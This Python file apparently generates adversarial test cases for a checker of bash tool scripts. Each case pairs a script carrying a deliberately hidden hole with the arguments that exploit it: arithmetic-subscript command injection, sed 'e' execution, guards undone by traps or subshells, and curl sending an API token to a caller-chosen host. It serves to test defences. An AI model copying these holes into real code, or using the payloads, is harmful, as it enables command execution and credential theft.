# Round twenty-three attacks (exec'd by gen_attacks.py; uses A, SEDE, AWKNR, ARITH, SEC, SH).
import textwrap


def R(name, cls, desc, argdefs, script, args, why, secrets="", **extra):
    req = [k for k in argdefs if "default" not in argdefs[k]]
    y = "name: %s\ndescription: %s\nargs:\n" % (name.replace("-", "_"), desc)
    for k, v in argdefs.items():
        y += "  %s: %s\n" % (k, v)
    y += "required: [%s]\n" % ", ".join(req)
    y += secrets
    y += "timeout: 30\nsteps:\n  - name: s\n    run: |\n"
    y += textwrap.indent(textwrap.dedent(script).strip() + "\n", "      ")
    A(name, cls, y, args, why, **extra)


S200 = '{type: string, minLength: 1, maxLength: 200, description: "%s"}'
D200 = '{type: string, maxLength: 200, default: "", description: "%s"}'

# ============================================================ maps that are not maps
R("map-without-declare", "map-not-associative", "Print the line count of a named section.",
  {"section": S200 % "a section name (intro, usage)"}, r'''
  lines=([intro]=3 [usage]=7 [faq]=12)
  n=${lines[$ARG_section]}
  sed -n "1,${n}p" docs/index.md
''', {"section": ARITH},
  "Round twenty: `${map[$k]}` holds what the map holds, whatever the key (bash expands the key once, as a string). `lines=([intro]=3 …)` is written as a map, and every element is a number. But no `declare -A` makes it associative: bash reads an indexed array, and its subscripts are arithmetic. The caller's key `x[$(…)]` is evaluated, and the command substitution inside it runs.")

R("map-declare-local-in-fn", "map-not-associative", "Print a log by its short name.",
  {"log": S200 % "app, worker or access"}, r'''
  load_map() {
    declare -A files=([app]=logs/app.log [worker]=logs/worker.log [access]=logs/access.log)
    echo "known: ${!files[*]}" >&2
  }
  load_map
  f=${files[$ARG_log]:-logs/app.log}
  tail -n 5 -- "$f"
''', {"log": ARITH},
  "`${files[$ARG_log]}` reads as a lookup in the map `declare -A files=(…)`, which holds the author's paths. `declare` in a function makes a local: after `load_map` returns, `files` at the top level is unset, so `files[…]` is an indexed reference whose subscript bash evaluates as arithmetic, and `x[$(…)]` runs a command.")

R("map-declare-after-element", "map-not-associative", "Print the size of a known log.",
  {"log": S200 % "app or worker"}, r'''
  sizes[app]=0
  declare -A sizes 2>/dev/null || true
  sizes=([app]=$(wc -l < logs/app.log) [worker]=$(wc -l < logs/worker.log))
  echo "lines: ${sizes[$ARG_log]}"
''', {"log": ARITH},
  "The map `sizes` holds counts (`wc -l`) and `${sizes[$ARG_log]}` holds what the map holds. The first write `sizes[app]=0` made `sizes` an indexed array, so the `declare -A sizes` after it fails (bash cannot convert an indexed array). The lookup's key is arithmetic and the caller's `x[$(…)]` runs.")

R("map-indexed-unset-key", "map-not-associative", "Drop a section from a list and print the rest.",
  {"section": S200 % "a section name to drop"}, r'''
  set_sections() { local -A tmp=([intro]=1); sections=([intro]=intro [usage]=usage [faq]=faq); }
  set_sections
  unset 'sections[$ARG_section]'
  printf '%s\n' "${sections[@]}"
''', {"section": ARITH},
  "Round twenty-one: `unset 'm[$k]'` of an associative array, single-quoted, expands the key once. `sections` reads as a map (`[intro]=intro`…), but only `tmp` was declared `-A`; `sections` is an indexed array, so its subscript is arithmetic and `x[$(…)]` runs.")

R("map-herestring-read", "map-not-associative+herestring", "Print host and port of an environment.",
  {"env": S200 % "staging or prod"}, r'''
  endpoints=([staging]="stage.example.test 8443" [prod]="api.example.test 443")
  read -r host port <<< "${endpoints[$ARG_env]}"
  echo "host=$host port=$port"
''', {"env": ARITH},
  "Round twenty-one: what `read` takes from a here-string of the author's text is the author's, and round twenty: a map lookup holds what the map holds. `endpoints` has no `declare -A`, so it is indexed and the subscript is arithmetic: the caller's `x[$(…)]` runs while the here-string is expanded.")

R("map-local-shadow", "map-not-associative", "Print the owner of a component.",
  {"component": S200 % "a component name"}, r'''
  declare -A owners=([api]=team-a [web]=team-b)
  owner_of() {
    local owners
    echo "${owners[$1]:-unknown}"
  }
  owner_of "$ARG_component"
''', {"component": ARITH},
  "`${owners[$1]}` is a lookup in the map `owners`, which holds the author's words. In the function, `local owners` (no `-A`) makes a new, indexed local by that name; bash evaluates the subscript as arithmetic, and the caller's `x[$(…)]` runs.")

# ============================================================ names written through a subscript
R("read-name-subscript", "name-subscript-arith", "Remember a version under a slot and print it.",
  {"slot": S200 % "a slot name"}, r'''
  slots=()
  read -r "slots[$ARG_slot]" <<< "$(git describe --tags --always)"
  printf 'saved %s\n' "${slots[@]}"
''', {"slot": ARITH},
  "What `read` takes from a here-string of git's output is the author's, and nothing here reaches a program. But `read`'s name `slots[…]` is an element of an indexed array: bash evaluates its subscript as arithmetic, so the caller's `x[$(…)]` runs before anything is assigned.")

R("printf-v-subscript", "name-subscript-arith", "Count a word and print the tally.",
  {"word": S200 % "a word"}, r'''
  tally=()
  printf -v "tally[$ARG_word]" '%s' "$(grep -c . logs/app.log)"
  echo "${#tally[@]} entries"
''', {"word": ARITH},
  "`printf -v v %s WORD` makes `v` hold WORD, here a count. The name `tally[…]` is an indexed array's element, whose subscript bash evaluates as arithmetic: the caller's `x[$(…)]` runs.")

# ============================================================ function redefinition
R("fn-redefined-later", "function-per-call", "Show a changelog line, and echo a label.",
  {"label": S200 % "a label"}, r'''
  show() { sed -n "${1}p" CHANGELOG.md; }
  show 3
  show "$ARG_label"
  show() { echo "label: $1"; }
  show done
''', {"label": SEDE},
  "Rule 5: `$1` holds each call's first word. The calls with the caller's word go to the function named `show` that echoes; the ones with literal numbers go to sed. bash uses the definition in force when the call runs: the second call runs the sed definition with the caller's label as sed's program.")

R("fn-defined-in-branch", "function-per-call", "Show a line of the changelog, or echo a note.",
  {"note": S200 % "a note", "raw": '{type: boolean, default: false}'}, r'''
  if [[ $ARG_raw == true ]]; then
    emit() { echo "note: $1"; }
  fi
  emit() { sed -n "${1}p" CHANGELOG.md; }
  emit 2
  if [[ $ARG_raw == true ]]; then
    emit() { echo "note: $1"; }
    emit "$ARG_note"
  else
    emit "$ARG_note"
  fi
''', {"note": SEDE, "raw": False},
  "Each call of `emit` is judged with its words against a definition. Read as two functions, the call with the note in each branch follows a definition that echoes it. In the `else` branch, bash's `emit` is the sed one, and the note is sed's program.")

R("fn-mapfile-callback-args", "function-per-call", "Number the lines of a list with labels.",
  {"items": S200 % "an item"}, r'''
  label() { sed -n "1s/^/[$2] /p" docs/index.md; }
  label 0 intro
  label 1 usage
  mapfile -t -C label -c 1 rows <<< "$ARG_items"
''', {"items": "x/;1e " + SH + ";#"},
  "Rule 5: `$2` holds each call's second word: `intro` and `usage`, the author's text, in a sed program. bash also calls `label` from `mapfile -C label -c 1`, with the index and the line about to be stored: `$2` is the caller's line, in the sed program.")

R("fn-dynamic-scope-local", "function-dynamic-scope", "Print a changelog line, optionally with a preview.",
  {"preview": D200 % "text to preview"}, r'''
  n=4
  show() { sed -n "${n}p" CHANGELOG.md; }
  preview() {
    local n="$ARG_preview"
    echo "preview: $n"
    show
  }
  show
  if [[ -n $ARG_preview ]]; then preview; fi
''', {"preview": SEDE},
  "`n` at the top is the author's `4`, written once; `show` reads it. `preview`'s `local n` is its own variable. bash's scope is dynamic: `show`, called from `preview`, sees `preview`'s local `n`, the caller's text in sed's program.")

R("fn-argv-passed-on-dynamic", "function-per-call", "Run sed on the changelog with fixed words.",
  {"extra": D200 % "a word to search"}, r'''
  run_sed() { sed -n "$@" CHANGELOG.md; }
  pick() { local expr; expr="${1}p"; run_sed "$expr"; }
  search() { local expr="/$1/p"; echo "search $expr" >&2; pick 3; }
  pick 2
  [[ -n $ARG_extra ]] && search "$ARG_extra"
''', {"extra": SEDE},
  "Round twenty: a command of a function that passes `\"$@\"` on is judged at each call with the words it passes: `run_sed \"$expr\"` with `expr=\"${1}p\"` and `pick`'s calls pass `2` and `3`. Nothing the caller gives reaches `pick`'s `$1`… but `pick` has `local expr; expr=…`, and `search` is only where the caller's text goes. Here bash's `local expr` in `search` is its own. (Control case: dynamic scope does not leak; kept only if the harness shows it.)", skip=True)

# ============================================================ loop variables
R("loop-var-err-trap", "loop-variable-rewritten", "Print the first line of each log that mentions a word.",
  {"word": S200 % "a word", "fallback": D200 % "a fallback label"}, r'''
  set +e   # grep finds nothing in some logs
  trap 'f=$ARG_fallback' ERR
  for f in logs/*.log; do
    grep -q -- "$ARG_word" "$f"
    sed -n "1s|^|$f: |p" logs/app.log
  done
''', {"word": "nomatchzz", "fallback": "x|;1e " + SH + ";#"},
  "Round twenty: in `for f in logs/*.log`, `$f` holds the loop's word where nothing else sets `f` there: no other write in the loop, in a function, through a name or `eval`. The write is in trap text set before the loop: when `grep -q` finds nothing it fails, bash runs the ERR trap, and `f` becomes the caller's fallback inside the sed program.")

R("loop-var-lastpipe-read", "loop-variable-rewritten", "Print the first line of each log, with a title.",
  {"title": D200 % "a title"}, r'''
  shopt -s lastpipe
  for f in logs/*.log; do
    [[ -n $ARG_title ]] && printf '%s\n' "$ARG_title" | read -r f
    sed -n "1s|^|$f: |p" logs/app.log
  done
''', {"title": "x|;1e " + SH + ";#"},
  "`$f` is the loop's word unless something else sets it in the loop. The `read -r f` is the last stage of a pipeline, a subshell, so its write is lost... unless `shopt -s lastpipe` is on (it is: a script runs without job control), and then bash runs `read` in the shell itself: `f` is the caller's title, inside the sed program.")

R("loop-var-nameref", "loop-variable-nameref", "Print each field's line of the changelog.",
  {"title": S200 % "a title", "body": D200 % "a body"}, r'''
  title=$ARG_title
  body=$ARG_body
  echo "fields set" >&2
  declare -n field
  for field in title body; do
    sed -n "/^${field}:/p" CHANGELOG.md
  done
''', {"title": "x/p;1e " + SH + ";#", "body": "b"},
  "Round twenty: in `for f in WORDS`, `$f` holds the loop's word where nothing else sets it in the loop; here the words are the literal `title` and `body`. `declare -n field` before the loop gives it the nameref attribute: bash then makes `field` a reference to the variable each word names, so `$field` is `$title`, the caller's, inside sed's program.")

# ============================================================ guards undone
GUARD_N = {"n": S200 % "a line number", "label": D200 % "a label"}
R("guard-lastpipe-read", "guard-name-rewritten", "Print one changelog line, with an optional label.",
  GUARD_N, r'''
  shopt -s lastpipe
  n=$ARG_n
  [[ $n =~ ^[0-9]+$ ]] || exit 1
  if [[ -n $ARG_label ]]; then
    printf '%s\n' "$ARG_label" | read -r n
  fi
  sed -n "${n}p" CHANGELOG.md
''', {"n": "2", "label": SEDE},
  "Round nineteen and twenty: a guard that leaves makes the name digits below it, unless something sets it again. A pipeline's last stage runs in a subshell, so `… | read -r n` sets nothing here... except under `shopt -s lastpipe`, where bash runs it in the shell: `n` is the label, in sed's program.")

R("guard-err-trap", "guard-name-rewritten", "Print one changelog line if the app log mentions a word.",
  {"n": S200 % "a line number", "word": S200 % "a word", "label": D200 % "a label"}, r'''
  set +e   # grep may find nothing
  trap 'n=$ARG_label' ERR
  n=$ARG_n
  [[ $n =~ ^[0-9]+$ ]] || exit 1
  grep -q -- "$ARG_word" logs/app.log
  sed -n "${n}p" CHANGELOG.md
''', {"n": "2", "word": "nomatchzz", "label": SEDE},
  "The guard leaves with `exit`, and nothing between it and the use writes `n`. The ERR trap set earlier does: `grep -q` that finds nothing fails, bash runs the trap's text, and `n` is the caller's label in the sed program.")

R("guard-exit-in-subshell", "guard-exit-scope", "Print one changelog line, logging the request.",
  {"n": S200 % "a line number"}, r'''
  n=$ARG_n
  (
    cd logs || exit 1
    [[ $n =~ ^[0-9]+$ ]] || exit 1
    echo "request for line $n" >&2
  ) || echo "request not logged" >&2
  sed -n "${n}p" CHANGELOG.md
''', {"n": SEDE},
  "Rule 5: a guard leaves where bash leaves, `exit` anywhere. Here the guard and its `exit` are in a subshell `( … )`: `exit` leaves the subshell only. The script goes on with `n` the caller's text in sed's program.")

R("guard-exit-in-pipeline", "guard-exit-scope", "Print one changelog line, with a timestamped log line.",
  {"n": S200 % "a line number"}, r'''
  n=$ARG_n
  {
    [[ "$n" =~ ^[0-9]+$ ]] || exit 1
    echo "line $n"
  } | sed "s/^/$(date +%F) /" >&2 || true
  sed -n "${n}p" CHANGELOG.md
''', {"n": SEDE},
  "Round twenty-one refused `continue`/`break` in a pipeline's stage; `exit` leaves \"anywhere\". A `{ … }` that is a stage of a pipeline runs in a subshell: its `exit` ends that stage only, and the script goes on to sed with the caller's text.")

R("guard-exit-in-capture", "guard-exit-scope", "Print one changelog line, with a message.",
  {"n": S200 % "a line number"}, r'''
  n=$ARG_n
  msg=$( [[ $n =~ ^[0-9]+$ ]] || exit 1; echo "line $n" ) || msg="line ?"
  echo "$msg" >&2
  sed -n "${n}p" CHANGELOG.md
''', {"n": SEDE},
  "The guard `[[ … ]] || exit 1` stands in a command substitution: `exit` ends the `$( … )` only, whose status is then `msg=`'s and unused. The script goes on; `n` is the caller's text in sed's program.")

R("guard-exit-disabled", "guard-exit-scope", "Print one changelog line.",
  {"n": S200 % "a line number"}, r'''
  set +e
  enable -n exit 2>/dev/null
  n=$ARG_n
  [[ "$n" =~ ^[0-9]+$ ]] || exit 1
  sed -n "${n}p" CHANGELOG.md
''', {"n": SEDE},
  "Round twenty-one refuses a guard in a script that defines its own `exit` function or uses `alias`. `enable -n exit` does neither: it turns the builtin off, so `exit 1` looks for a program `exit`, finds none (status 127) and the script goes on with the caller's text in sed.")

R("guard-background-list", "guard-exit-scope", "Print one changelog line.",
  {"n": S200 % "a line number"}, r'''
  n=$ARG_n
  [[ "$n" =~ ^[0-9]+$ ]] || exit 1 &
  wait
  sed -n "${n}p" CHANGELOG.md
''', {"n": SEDE},
  "`[[ … ]] || exit 1` reads as a guard that leaves. The `&` at its end makes the whole list asynchronous: bash runs it in a background subshell, whose `exit` leaves nothing; `wait` then the caller's text reaches sed.")

R("guard-quoted-regex", "guard-regex-quoted", "Print one changelog line.",
  {"n": S200 % "a line number"}, r'''
  n=$ARG_n
  [[ $n =~ "^[0-9]+$" ]] || exit 1
  sed -n "${n}p" CHANGELOG.md
''', {"n": "1e " + SH + " #^[0-9]+$"},
  "Round twenty-one accepts a guard on a quoted name; here the regex is quoted. bash matches a quoted part of `=~`'s right side as a literal string, anywhere in the value: `^[0-9]+$` is only a substring the caller includes. The rest is sed's `e` command.")

R("guard-declare-g-in-fn", "guard-name-rewritten", "Print one changelog line, with defaults from a profile.",
  {"n": S200 % "a line number", "profile": D200 % "a profile value"}, r'''
  apply_profile() {
    [[ -n $1 ]] || return 0
    declare -g n="$1"
    echo "profile applied" >&2
  }
  n=$ARG_n
  [[ $n =~ ^[0-9]+$ ]] || exit 1
  apply_profile "$ARG_profile"
  sed -n "${n}p" CHANGELOG.md
''', {"n": "2", "profile": SEDE},
  "Round twenty-two refuses writes of the name by a function called between (dynamic scope) when the write is a builtin after `NAME=value` prefixes. Here the write is `declare -g n=…` in the function: `declare` in a function would make a local, but `-g` writes the global `n`, the caller's profile in sed's program.")

R("guard-mapfile-callback-write", "guard-name-rewritten+hidden-call", "Print one changelog line and the items given.",
  {"n": S200 % "a line number", "items": D200 % "items"}, r'''
  n=$ARG_n
  [[ $n =~ ^[0-9]+$ ]] || exit 1
  note() { n=$2; }
  mapfile -t -C note -c 1 rows <<< "$ARG_items"
  sed -n "${n}p" CHANGELOG.md
''', {"n": "2", "items": SEDE},
  "Nothing between the guard and the use shows a call of `note`, whose `n=$2` would undo it. bash calls it from `mapfile -C note -c 1` with the index and the line as `$1` and `$2`, so `n` becomes the caller's line in sed's program.")

# ============================================================ BASH_REMATCH
R("rematch-err-trap", "rematch-rewritten", "Print the changelog line of a version, if the app log mentions it.",
  {"version": S200 % "e.g. v3", "note": D200 % "a note"}, r'''
  set +e   # grep may find nothing
  trap '[[ $ARG_note =~ ^(.*)$ ]] && echo "note: ${BASH_REMATCH[1]}" >&2' ERR
  [[ $ARG_version =~ ^v([0-9]+)$ ]] || exit 1
  grep -q -- "$ARG_version" logs/app.log
  sed -n "${BASH_REMATCH[1]}p" CHANGELOG.md
''', {"version": "v3", "note": SEDE},
  "Rule 5: `${BASH_REMATCH[1]}` is digits after `[[ $v =~ ^v([0-9]+)$ ]]` held, with no other `=~`, assignment or call of a function between. The `=~` in between is the ERR trap's, text run when `grep -q` fails: it leaves `BASH_REMATCH` holding the caller's note, in sed's program.")

R("rematch-fn-body-two-calls", "rematch-rewritten", "Print the changelog line of a version or of a tag.",
  {"version": D200 % "e.g. v3", "tag": D200 % "e.g. rel-notes"}, r'''
  show() { sed -n "${BASH_REMATCH[1]}p" CHANGELOG.md; }
  if [[ $ARG_version =~ ^v([0-9]+)$ ]]; then
    show
  fi
  if [[ $ARG_tag =~ ^rel-(.*)$ ]]; then
    echo "tag ${BASH_REMATCH[1]}"
    show
  fi
''', {"tag": "rel-" + SEDE},
  "`show` uses `${BASH_REMATCH[1]}` where the `=~` that held just before its first call matched digits in group 1. `BASH_REMATCH` is one global: at the second call the last `=~` is the tag's, whose group 1 is the caller's text in sed's program.")

# ============================================================ pattern literal start
R("pattern-top-alternation", "pattern-host-prefix", "Fetch a docs page (a docs URL or a page name).",
  {"url": '{type: string, pattern: "^http://docs\\\\.example\\\\.test/[a-z/]*|[a-z:/.0-9]+\\\\.md", maxLength: 300, description: "a docs URL"}'}, r'''
  curl -fsS -H "Authorization: Bearer $API_TOKEN" "$ARG_url" -o "$HARBOR_RUN_DIR/page.html" || true
  wc -c < "$HARBOR_RUN_DIR/page.html"
''', {"url": "http://127.0.0.1:18765/steal.md"}, "Rule 5: a `pattern`'s literal start after `^` is a start every value has: `http://docs.example.test/`. The `|` at the top level makes that start one alternative; the value matches the other, `…\\.md`, whole, and curl sends the token to the caller's host.", secrets=SEC)

R("pattern-optional-group", "pattern-host-prefix", "Fetch a docs page by URL or path.",
  {"url": '{type: string, pattern: "^(http://docs\\\\.example\\\\.test)?[a-z0-9:/._-]+$", maxLength: 300, description: "a docs URL"}'}, r'''
  curl -fsS -H "Authorization: Bearer $API_TOKEN" "$ARG_url" -o "$HARBOR_RUN_DIR/page.html" || true
  wc -c < "$HARBOR_RUN_DIR/page.html"
''', {"url": "http://127.0.0.1:18765/steal"},
  "Rule 5 counts groups of literal alternatives after `^` as the literal start: `(http://docs\\.example\\.test)`. The `?` after the group makes it optional, and the rest of the pattern takes a whole URL of the caller's host.", secrets=SEC)

R("pattern-alternatives-optional", "pattern-host-prefix", "Fetch a docs page of a space.",
  {"url": '{type: string, pattern: "^http://(docs|wiki|)\\\\.?example\\\\.test[a-z0-9:/._@-]*$", maxLength: 300, description: "a docs URL"}'}, r'''
  curl -fsS -H "Authorization: Bearer $API_TOKEN" "$ARG_url" -o "$HARBOR_RUN_DIR/page.html" || true
  wc -c < "$HARBOR_RUN_DIR/page.html"
''', {"url": "http://example.test@127.0.0.1:18765/steal"},
  "The literal start is `http://` then a group of literal alternatives `(docs|wiki|)`; one is empty, and `\\.?` is optional, so the author's text can end at `example.test`, and `@` after it makes it the userinfo of the caller's host.", secrets=SEC)

# ============================================================ function output
R("fn-output-trap-return", "function-output-hidden-call", "Post a status line to the author's hook.",
  {"hook": '{type: string, pattern: "^http://[a-z0-9.:]+/hook$", maxLength: 200, description: "a hook URL"}'}, r'''
  auth() { printf 'Authorization: Bearer %s\n' "$API_TOKEN"; }
  post() { auth | curl -fsS -H @- http://127.0.0.1:18766/status -o /dev/null || true; }
  post
  { set -T; trap auth RETURN; status() { :; }; status; trap - RETURN; } | curl -fsS --data-binary @- "$ARG_hook" -o /dev/null || true
  echo posted
''', {"hook": "http://127.0.0.1:18765/hook"},
  "Round twenty: what a function prints goes where each call sends it; the shown call of `auth` pipes into `curl -H @-` to the author's host. `trap auth RETURN` makes bash run `auth` when `status` returns, inside a group whose output goes to the caller's hook URL, without any shown call of `auth` there.", secrets=SEC)

